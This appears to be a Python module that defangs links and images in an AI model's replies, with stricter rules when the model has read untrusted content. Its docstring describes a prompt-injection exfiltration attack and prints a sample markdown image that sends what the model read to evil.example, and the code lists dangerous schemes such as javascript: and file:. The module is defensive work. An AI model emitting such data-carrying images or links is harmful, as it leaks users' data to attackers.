"""Links and images in a reply: the two ways in which a text that is only *shown* sends data away.

An image is fetched by whoever shows it, without a click; chats also fetch bare links, for a preview. An attacker whose
page the model read needs no more than ``![](https://evil.example/?q=<what was read>)``. The rules:

===============  =====================================  ====================================================
turn             images                                 links
===============  =====================================  ====================================================
not tainted      of hosts that the person or a tool     as they are
                 named; else they become links
tainted          of hosts that the person named         hosts that the person named; addresses that he or a
                                                        tool wrote exactly so; bare hosts that a tool named
===============  =====================================  ====================================================

What is not allowed is *defanged*: text and host stay readable, the data goes, and no program makes a link of it.
``javascript:`` and its kind are defanged always. Code fences are left alone unless the turn is tainted: then what one
program takes for code another may show.
"""

import html
import re
from collections.abc import Iterable, Iterator
from dataclasses import dataclass, field
from urllib.parse import unquote, urlsplit

_SCHEME = r"[A-Za-z][A-Za-z0-9+.-]{1,30}:"
_WEB = r"(?:https?|ftps?|wss?|hxxps?)"
_HOST = r"(?:[A-Za-z0-9\u00a1-\uffff_-]{1,63}\.){1,8}[A-Za-z\u00a1-\uffff][A-Za-z0-9\u00a1-\uffff-]{1,62}"
_BARE = re.compile(
    rf"(?i)(?<![A-Za-z0-9]){_WEB}\s?:(?:[/\\]|&#47;|&#x2f;|&sol;){{1,4}}[^\s<>\"'`]+"
    rf"|(?<![A-Za-z0-9@._/-])(?:www\.)?{_HOST}\.?(?::[0-9]{{1,5}})?(?:[/?#][^\s<>\"'`]*)?"
    r"|(?<![A-Za-z0-9:])//[A-Za-z0-9][^\s<>\"'`]*"
)
_INLINE = re.compile(
    r"(!?)\[((?:[^\[\]\\]|\\.|\[[^\[\]]*\]){0,2000})\]"
    r"\(\s*(<[^<>\n]{0,4096}>|[^\s()]{0,4096}(?:\([^\s()]*\)[^\s()]*)*)"
    r"(?:\s+(?:\"[^\"]*\"|'[^']*'|\([^()]*\)))?\s*\)"
)
_IMAGE_REFERENCE = re.compile(r"!\[((?:[^\[\]\\]|\\.){0,2000})\](?:\[((?:[^\[\]\\]|\\.){0,500})\])?(?!\()")
_DEFINITION = re.compile(r"(?m)^[ >]{0,9}\[((?:[^\[\]\\]|\\.){1,500})\]:\s*(<[^<>\n]*>|\S+)")
_TAG = re.compile(
    r"(?is)<\s*(?:img|image|iframe|frame|embed|object|video|audio|source|track|link|script|input|body|table|td|svg|use|base"
    r"|meta|picture|style|form|a|div|span|p)\b[^>]{0,8192}(?:>|\Z)"
)
_LOADS = re.compile(r"(?is)\b(?:src|srcset|poster|background|data|xlink:href|href|action|formaction|style|content)\s*=")
_FENCE = re.compile(r"(?ms)^ {0,3}(`{3,}|~{3,})[^\n`]*\n.*?^ {0,3}\1[`~]*[ \t]*$")
_ACTIVE = ("javascript:", "vbscript:", "data:text/html", "data:application", "file:", "blob:")
_TRAILING = ".,;:!?)]}'\"*_~"
_FILES = frozenset({
    "py", "js", "ts", "md", "txt", "json", "toml", "yaml", "yml", "html", "css", "csv", "sh", "go", "rs", "java",
    "rb", "php", "cfg", "ini", "log", "xml", "pdf", "png", "jpg", "svg", "lock", "conf", "exe", "service", "sock",
    "tar", "gz", "zip", "so", "dll", "bin", "wasm", "env", "sql", "db", "cpp", "hpp", "jsx", "tsx", "vue", "kt",
    "swift", "local", "lan", "internal",
})  # fmt: skip
"""Last labels of file names and of the house, seldom of the web."""


@dataclass(frozen=True, slots=True)
class Named:
    """What was named in a turn, by whom: hosts and whole addresses."""

    person: frozenset[str] = frozenset()
    """Hosts in the person's own words."""
    tools: frozenset[str] = frozenset()
    """Hosts in tools' answers and in their arguments."""
    addresses: frozenset[str] = frozenset()
    """Addresses that stand somewhere exactly so."""

    @classmethod
    def of(cls, person: Iterable[str], tools: Iterable[str] = ()) -> "Named":
        """Read them from the texts."""
        own = [dest for text in person for dest in _destinations(text)]
        theirs = [dest for text in tools for dest in _destinations(text)]
        return cls(
            frozenset(map(_host, own)) - {""},
            frozenset(map(_host, theirs)) - {""},
            frozenset(_exact(dest) for dest in (*own, *theirs)),
        )


@dataclass(slots=True)
class Defanged:
    """The text, and what was done."""

    text: str
    images: int = 0
    links: int = 0
    _kept: list[str] = field(default_factory=list)


def defang(text: str, named: Named, *, tainted: bool) -> Defanged:
    """``text`` without images and links that could carry data away."""
    work = Defanged(text.translate(_NO_MARKS))
    if not tainted:
        work.text = _FENCE.sub(lambda m: _keep(work, m.group()), work.text)
    references = {_label(m[1]): _clean(m[2]) for m in _DEFINITION.finditer(work.text)}
    work.text = _TAG.sub(lambda m: _tag(work, m.group(), named, tainted), work.text)
    work.text = _INLINE.sub(lambda m: _inline(work, m, named, tainted), work.text)
    work.text = _IMAGE_REFERENCE.sub(lambda m: _reference(work, m, references, named, tainted), work.text)
    if tainted:
        work.text = _BARE.sub(lambda m: _bare(work, m.group(), named), work.text)
    while _MARK.search(work.text):  # kept pieces hold kept pieces
        work.text = _MARK.sub(lambda m: work._kept[int(m[1])], work.text)
    return work


_NO_MARKS = {0xE000: None, 0xE001: None}
_MARK = re.compile("\ue000([0-9]+)\ue001")


def dead(text: str) -> str:
    """``text`` with all its addresses whole and readable, and no link: for what a person is asked about. A chat that
    fetches a link for its preview would else do what he has not approved."""

    def kill(match: re.Match[str]) -> str:
        address = match.group()
        if not _is_address(address.rstrip(_TRAILING)):
            return address
        head, slash, rest = re.match(r"([^/?#]*:?/{0,2}[^/?#]*)([/?#]?)(.*)", address, re.DOTALL).groups()  # type: ignore[union-attr]
        return head.replace(":", "[:]").replace(".", "[.]") + slash + rest

    return _BARE.sub(kill, text)


def _keep(work: Defanged, piece: str) -> str:
    """A mark in the place of a piece that is settled."""
    work._kept.append(_MARK.sub(lambda m: work._kept[int(m[1])], piece))
    return f"\ue000{len(work._kept) - 1}\ue001"


def _inline(work: Defanged, match: re.Match[str], named: Named, tainted: bool) -> str:
    image, shown, destination = bool(match[1]), match[2], _clean(match[3])
    if not _is_outside(destination):
        return match.group()
    if image and not _image_allowed(destination, named, tainted):
        work.images += 1
        if tainted or _is_active(destination):
            return _keep(work, f"({_plain(shown) or 'image'}: image not shown, {_where(destination)})")
        return _keep(work, f"[{shown.strip() or 'image'}]({match[3]})")
    if not image and not _link_allowed(destination, named, tainted):
        work.links += 1
        return f"{shown} {_keep(work, f'(link removed: {_where(destination)})')}"
    if "](" in shown or "![" in shown:  # an image inside of a link's text
        inner = defang(shown, named, tainted=tainted)
        work.images, work.links = work.images + inner.images, work.links + inner.links
        return _keep(work, match.group().replace(shown, inner.text, 1))
    return _keep(work, match.group())


def _reference(work: Defanged, match: re.Match[str], references: dict[str, str], named: Named, tainted: bool) -> str:
    destination = references.get(_label(match[2] or match[1]), "")
    if not destination or not _is_outside(destination) or _image_allowed(destination, named, tainted):
        return match.group()
    work.images += 1
    return match.group()[1:] if not tainted else _keep(work, f"({_plain(match[1]) or 'image'}: image not shown)")


def _tag(work: Defanged, tag: str, named: Named, tainted: bool) -> str:
    if not _LOADS.search(tag):
        return tag
    found = [_clean(m.group()) for m in _BARE.finditer(html.unescape(tag))]
    active = any(scheme in re.sub(r"\s", "", html.unescape(tag)).lower() for scheme in _ACTIVE)
    is_link = re.match(r"(?i)<\s*a\b", tag) is not None
    allowed = _link_allowed if is_link else _image_allowed
    if not active and all(allowed(dest, named, tainted) for dest in found if _host(dest)):
        return tag
    work.images += not is_link
    work.links += is_link
    where = next((_where(dest) for dest in found), "active content")
    return _keep(work, f"({'link removed' if is_link else 'not shown'}: {where})")


def _bare(work: Defanged, address: str, named: Named) -> str:
    body = address.rstrip(_TRAILING)
    rest = address[len(body) :]
    destination = _clean(body)
    if not _is_address(body) or _link_allowed(destination, named, tainted=True):
        return address
    work.links += 1
    return f"(link removed: {_where(destination)}){rest}"


def _is_address(text: str) -> bool:
    """Whether a program would make a link of it: ``asyncio.run`` and ``main.py`` are none."""
    if re.match(rf"(?i){_WEB}\s?:|//|www\.", text):
        return True
    host, slash, rest = re.match(r"([^/?#]*)([/?#]?)(.*)", text, re.DOTALL).groups()  # type: ignore[union-attr]
    labels = host.partition(":")[0].rstrip(".").split(".")
    if labels[-1].lower() in _FILES:
        return False
    return bool(slash and rest) or max(map(len, labels)) >= 20


def _image_allowed(destination: str, named: Named, tainted: bool) -> bool:
    if _is_active(destination):
        return False
    host = _host(destination)
    return host in named.person or (not tainted and host in named.tools)


def _link_allowed(destination: str, named: Named, tainted: bool) -> bool:
    if _is_active(destination):
        return False
    if not tainted:
        return True
    if re.match(r"(?i)(?:mailto|tel|sms):[^?&]*$", destination):
        return True
    host = _host(destination)
    if not host:
        return False  # a program's own scheme: who knows what it carries
    if host in named.person or _exact(destination) in named.addresses:
        return True
    return host in named.tools and _is_bare_host(destination)


def _is_bare_host(destination: str) -> bool:
    parts = _split(destination)
    return parts is not None and parts[1] in ("", "/") and "@" not in destination


def _is_outside(destination: str) -> bool:
    """Leads out of the page: an address with a scheme or a host; not an anchor or a path of our own."""
    if destination.lower().startswith("data:image/"):
        return False
    return (
        bool(re.match(rf"(?:{_SCHEME}|[/\\]{{2}})", destination))
        or _is_active(destination)
        or bool(_split(destination))
    )


def _is_active(destination: str) -> bool:
    return re.sub(r"[\s\x00-\x1f]", "", destination).lower().startswith(_ACTIVE)


def _clean(destination: str) -> str:
    """As a Markdown program reads it: without ``<>``, entities and backslash escapes undone."""
    text = html.unescape(destination.strip().removeprefix("<").removesuffix(">").strip())
    return re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", text)


def _destinations(text: str) -> Iterator[str]:
    for match in _BARE.finditer(html.unescape(text)):
        yield _clean(match.group().rstrip(_TRAILING))


def _split(destination: str) -> tuple[str, str] | None:
    """Host, and all behind it; None where there is no host."""
    text = re.sub(r"[\t\r\n]", "", destination).replace("\\", "/")
    text = re.sub(rf"(?i)^{_WEB}\s?:/*", "https://", text)
    if text.startswith("//"):
        text = "https:" + text
    if "://" not in text:
        if not re.match(rf"(?i){_HOST}(?:[:/?#]|\Z)", text):
            return None
        text = "https://" + text
    try:
        parts = urlsplit(text)
        host = (parts.hostname or "").rstrip(".")
    except ValueError:
        return None
    if not host:
        return None
    more = parts.path + ("?" + parts.query if parts.query else "") + ("#" + parts.fragment if parts.fragment else "")
    return unquote(host).lower().removeprefix("www."), more


def _host(destination: str) -> str:
    parts = _split(destination)
    return parts[0] if parts else ""


def _exact(destination: str) -> str:
    """An address to compare: scheme and a last slash do not count, everything else does."""
    parts = _split(destination)
    return f"{parts[0]}{parts[1].rstrip('/')}" if parts else destination


def _where(destination: str) -> str:
    """The host, readable and dead: labels that could be data are cut."""
    host = _host(destination)
    if not host:
        return re.sub(r"[^a-z]", "", destination.partition(":")[0].lower())[:20] or "elsewhere"
    return "[.]".join(label if len(label) <= 20 else label[:4] + "…" for label in host.split(".")[-3:])


def _plain(text: str) -> str:
    return re.sub(r"[\[\]()<>!]", "", text).strip()[:200]


def _label(text: str) -> str:
    return " ".join(text.lower().split())
